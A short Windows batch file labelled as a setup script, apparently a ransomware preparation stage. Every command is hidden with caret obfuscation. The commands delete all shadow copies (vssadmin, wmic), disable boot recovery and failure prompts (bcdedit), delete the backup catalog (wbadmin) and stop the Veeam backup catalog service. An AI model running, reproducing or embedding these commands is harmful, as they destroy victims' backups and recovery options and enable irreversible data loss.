REM setup 4310 v1
@echo off
set "apvg=v^ss^admi^n ^d^el^et^e ^s^ha^do^ws /a^ll /^qu^iet"
call %apvg%
@echo off
set "uead=w^m^ic s^hadowco^py ^d^ele^t^e"
call %uead%
@echo off
set "rrys=^bcd^e^d^it /^set {d^e^f^a^u^lt} ^r^ec^ove^ry^en^abled ^n^o"
call %rrys%
@echo off
set "rxxp=bcde^d^i^t /s^et {^default} ^bootstat^u^s^p^o^l^i^cy ^i^g^nor^e^al^lf^a^i^lu^re^s"
call %rxxp%
@echo off
set "vekf=w^b^a^dmin de^let^e ^c^a^tal^og -^qu^iet"
call %vekf%
@echo off
set "gofa=ne^t st^o^p "Veeam Backup Catalog Data Service" /y"
call %gofa%
